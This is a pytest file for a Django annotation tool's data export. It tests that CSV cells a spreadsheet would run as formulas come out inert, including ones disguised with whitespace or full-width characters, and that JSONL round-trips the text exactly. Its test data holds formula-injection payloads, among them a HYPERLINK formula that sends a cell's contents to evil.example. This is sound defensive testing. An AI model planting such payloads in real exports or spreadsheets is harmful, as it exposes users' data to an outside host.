"""Exports of hostile text: CSV cells a spreadsheet would run as formulas come out inert, JSONL
keeps the exact text and imports back unchanged, and every export holds as many rows as the
database has (the general round trip is in tests/dataio/test_export.py)."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from annotation.models import Comparison, Dialogue, Judgment, Project, Turn
from annotation.services import batch_open
from dataio.services import data_import
from tests.factories import ProjectFactory

# db_sensitive: PostgreSQL refuses NUL characters and over-long text where SQLite stores them,
# so scripts/test runs this matrix on both.
pytestmark = [pytest.mark.django_db, pytest.mark.db_sensitive]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1)"]
# Imports strip prompts, so a leading tab or CR survives only in a response (kept verbatim).
REJECTED = ["\t=1+1", "\r=1+1", "-10 rejected"]
PLAIN = ["Hello", "2 - 1 = 1", "'quoted already", "a=b"]


@pytest.fixture
def hostile(db):
    """A project whose prompts, responses and rationales are the payloads above, one judgment
    each, plus an unjudged prompt and a tie (which TRL rows leave out)."""
    project = ProjectFactory(name="Hostile")
    batch_open(project=project)
    rows = [
        {"messages": [{"role": "user", "content": text}],
         "responses": [{"text": f"{text} chosen"}, {"text": REJECTED[min(i, 2)]}],
         "judgments": [{"annotator": "r1", "choice": "a", "strength": "better", "rationale": text}]}
        for i, text in enumerate(FORMULAS + PLAIN)
    ]
    rows.append({"messages": [{"role": "user", "content": "=1+1 tie"}], "responses": [{"text": "x"}, {"text": "y"}],
                 "judgments": [{"annotator": "r1", "choice": "tie"}]})
    rows.append({"messages": [{"role": "user", "content": "@unanswered"}]})
    content = "".join(json.dumps(row) + "\n" for row in rows).encode()
    data_import(project=project, stream=io.BytesIO(content), fmt="margin", source_name="hostile.jsonl")
    return project


def read_csv(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def export(tmp_path, kind, fmt):
    path = tmp_path / f"out.{fmt}"
    call_command("export_data", str(path), project=["Hostile"], kind=kind, output_format=fmt, verbosity=0)
    return path


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(hostile, tmp_path):
    rows = read_csv(export(tmp_path, "trl", "csv").read_bytes().decode("utf-8"))
    prompts = [row["prompt"] for row in rows]
    assert prompts == ["'" + text for text in FORMULAS] + PLAIN
    assert [row["chosen"] for row in rows] == [f"'{t} chosen" for t in FORMULAS] + [f"{t} chosen" for t in PLAIN]
    assert [row["rejected"] for row in rows][:3] == ["'\t=1+1", "'\r=1+1", "'-10 rejected"]
    # No cell of any column starts a formula; numbers stay numbers.
    assert float(rows[0]["margin"]) >= 0
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_margin_csv_neutralises_rationales_and_counts_every_comparison_and_prompt(hostile, tmp_path):
    rows = read_csv(export(tmp_path, "margin", "csv").read_bytes().decode("utf-8"))
    unjudged = Dialogue.objects.filter(project=hostile, comparisons=None).count()
    assert len(rows) == Comparison.objects.filter(batch__project=hostile).count() + unjudged == 10
    judgments = [json.loads(row["judgments"]) for row in rows if row["judgments"]]
    assert judgments[0][0]["rationale"] == FORMULAS[0]  # inside a JSON cell: text, not a formula
    assert rows[-1]["messages"] == "'@unanswered"


def test_trl_exports_hold_one_row_per_decided_pair(hostile, tmp_path):
    decided = Judgment.objects.filter(comparison__batch__project=hostile).exclude(choice="tie").count()
    assert decided == len(FORMULAS) + len(PLAIN)
    assert len(read_csv(export(tmp_path, "trl", "csv").read_bytes().decode("utf-8"))) == decided
    assert len(export(tmp_path, "trl", "jsonl").read_text(encoding="utf-8").splitlines()) == decided


def test_jsonl_keeps_the_exact_text_and_imports_back_unchanged(hostile, tmp_path):
    path = export(tmp_path, "margin", "jsonl")
    rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert [row["messages"][0]["content"] for row in rows][: len(FORMULAS)] == FORMULAS
    copy = Project.objects.create(name="Copy", objective="helpfulness", guidelines="g")
    batch_open(project=copy)
    with open(path, "rb") as stream:
        report = data_import(project=copy, stream=stream, fmt="margin", source_name=path.name)
    assert (report.comparisons_added, report.prompts_added, report.invalid) == (len(rows) - 1, 1, 0)
    texts = set(Turn.objects.filter(dialogue__project=copy).values_list("content", flat=True))
    assert set(FORMULAS) <= texts
    rationales = set(Judgment.objects.filter(comparison__batch__project=copy).values_list("rationale", flat=True))
    assert set(FORMULAS) <= rationales


def test_the_download_page_serves_neutralised_csv(client, hostile):
    from tests.factories import StaffFactory

    client.force_login(StaffFactory())
    response = client.get(reverse("dataio:export"), {"projects": hostile.pk, "kind": "trl", "output_format": "csv"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="margin-trl.csv"')
    rows = read_csv(b"".join(response.streaming_content).decode("utf-8"))
    assert rows[0]["prompt"] == "'" + FORMULAS[0] and len(rows) == len(FORMULAS) + len(PLAIN)


# Formulas a spreadsheet still runs: behind white space, a non-breaking or ideographic space, a
# zero-width space, or written with the full-width ＝ ＋ － ＠.
DISGUISED = [" =1+1", "\u00a0=HYPERLINK(\"http://evil.example\",\"x\")", "\u3000@SUM(A1)", "\u200b=1+1",
             "＝1+1", "＋1", "－2", "＠SUM(A1)", " \u00a0＝1"]


def test_csv_neutralises_formulas_behind_white_space_or_in_full_width(db, tmp_path):
    project = ProjectFactory(name="Hostile")
    batch_open(project=project)
    rows = [{"messages": [{"role": "user", "content": f"Prompt {i}"}],
             "responses": [{"text": f"fine {i}"}, {"text": text}],  # responses are kept verbatim
             "judgments": [{"annotator": "r1", "choice": "a", "strength": "better"}]}
            for i, text in enumerate(DISGUISED)]
    rows.append({"messages": [{"role": "user", "content": "＝HYPERLINK(\"http://evil.example\")"}],
                 "responses": [{"text": "a"}, {"text": "b"}], "judgments": [{"annotator": "r1", "choice": "a"}]})
    content = "".join(json.dumps(row) + "\n" for row in rows).encode()
    data_import(project=project, stream=io.BytesIO(content), fmt="margin", source_name="disguised.jsonl")
    exported = read_csv(export(tmp_path, "trl", "csv").read_bytes().decode("utf-8"))
    assert [row["rejected"] for row in exported[:-1]] == ["'" + text for text in DISGUISED]
    assert exported[-1]["prompt"] == "'＝HYPERLINK(\"http://evil.example\")"
    assert [row["chosen"] for row in exported] == [f"fine {i}" for i in range(len(DISGUISED))] + ["a"]
